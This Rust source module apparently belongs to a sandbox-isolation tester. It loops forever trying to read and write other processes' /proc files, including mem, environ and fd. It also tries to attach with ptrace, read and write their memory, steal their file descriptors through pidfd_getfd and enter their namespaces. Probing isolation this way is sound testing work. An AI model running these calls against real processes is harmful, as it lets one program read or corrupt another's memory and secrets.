//! Attacks through `/proc`, and by calls that inspect another process.

use crate::Reach;
use crate::sys::{at, at_mut, call, disguised, number, rest, text};

const FILES: [&str; 30] = [
    "mem",
    "environ",
    "auxv",
    "fd",
    "fd/0",
    "fd/1",
    "fd/3",
    "root",
    "cwd",
    "exe",
    "maps",
    "smaps",
    "pagemap",
    "stack",
    "syscall",
    "timerslack_ns",
    "oom_score_adj",
    "oom_adj",
    "autogroup",
    "comm",
    "sched",
    "clear_refs",
    "coredump_filter",
    "attr/current",
    "uid_map",
    "setgroups",
    "ns/pid",
    "task/1/comm",
    "limits",
    "personality",
];

const PR_SCHED_CORE: i32 = 62;
const MADV_PAGEOUT: i32 = 21;
const MADV_COLD: i32 = 20;

pub fn attack(reach: Reach) -> ! {
    loop {
        for pid in reach.targets() {
            files(&pid.to_string());
            for as_argument in [number(pid), disguised(pid)] {
                memory(as_argument);
            }
        }
        rest(200);
    }
}

fn files(process: &str) {
    for file in FILES {
        let path = text(&format!("/proc/{process}/{file}"));
        for flags in [libc::O_RDONLY, libc::O_WRONLY, libc::O_RDWR] {
            let flags = number(flags | libc::O_NONBLOCK | libc::O_CLOEXEC);
            let opened = call(
                libc::SYS_openat,
                [number(libc::AT_FDCWD), at(path.as_c_str()), flags, 0, 0, 0],
            );
            if opened >= 0 {
                let file = opened.cast_unsigned();
                call(libc::SYS_write, [file, at(b"1000"), 4, 0, 0, 0]);
                call(libc::SYS_pwrite64, [file, at(b"1000"), 4, 0x40_0000, 0, 0]);
                call(libc::SYS_read, [file, at_mut(&mut [0u8; 256]), 256, 0, 0, 0]);
                call(libc::SYS_close, [file, 0, 0, 0, 0, 0]);
            }
        }
    }
}

fn memory(pid: u64) {
    let mut buffer = [0u8; 64];
    let local = [at_mut(&mut buffer), 64];
    let remote = [0x40_0000u64, 64];
    call(libc::SYS_ptrace, [libc::PTRACE_ATTACH as u64, pid, 0, 0, 0, 0]);
    call(libc::SYS_ptrace, [libc::PTRACE_SEIZE as u64, pid, 0, 0, 0, 0]);
    call(libc::SYS_ptrace, [libc::PTRACE_INTERRUPT as u64, pid, 0, 0, 0, 0]);
    call(libc::SYS_process_vm_writev, [pid, at(&local), 1, at(&remote), 1, 0]);
    call(libc::SYS_process_vm_readv, [pid, at(&local), 1, at(&remote), 1, 0]);
    call(libc::SYS_kcmp, [pid, pid, 0, 0, 0, 0]);
    // Shares the core scheduling cookie with the target, in either direction.
    for command in 0..4 {
        call(libc::SYS_prctl, [number(PR_SCHED_CORE), command, pid, 1, 0, 0]);
    }
    let pidfd = call(libc::SYS_pidfd_open, [pid, 0, 0, 0, 0, 0]);
    if pidfd < 0 {
        return;
    }
    let pidfd = pidfd.cast_unsigned();
    for target in 0..16 {
        let stolen = call(libc::SYS_pidfd_getfd, [pidfd, target, 0, 0, 0, 0]);
        if stolen >= 0 {
            call(libc::SYS_close, [stolen.cast_unsigned(), 0, 0, 0, 0, 0]);
        }
    }
    for advice in [MADV_PAGEOUT, MADV_COLD] {
        call(libc::SYS_process_madvise, [pidfd, at(&remote), 1, number(advice), 0, 0]);
    }
    call(libc::SYS_process_mrelease, [pidfd, 0, 0, 0, 0, 0]);
    call(libc::SYS_setns, [pidfd, number(libc::CLONE_NEWNS), 0, 0, 0, 0]);
    call(libc::SYS_close, [pidfd, 0, 0, 0, 0, 0]);
}
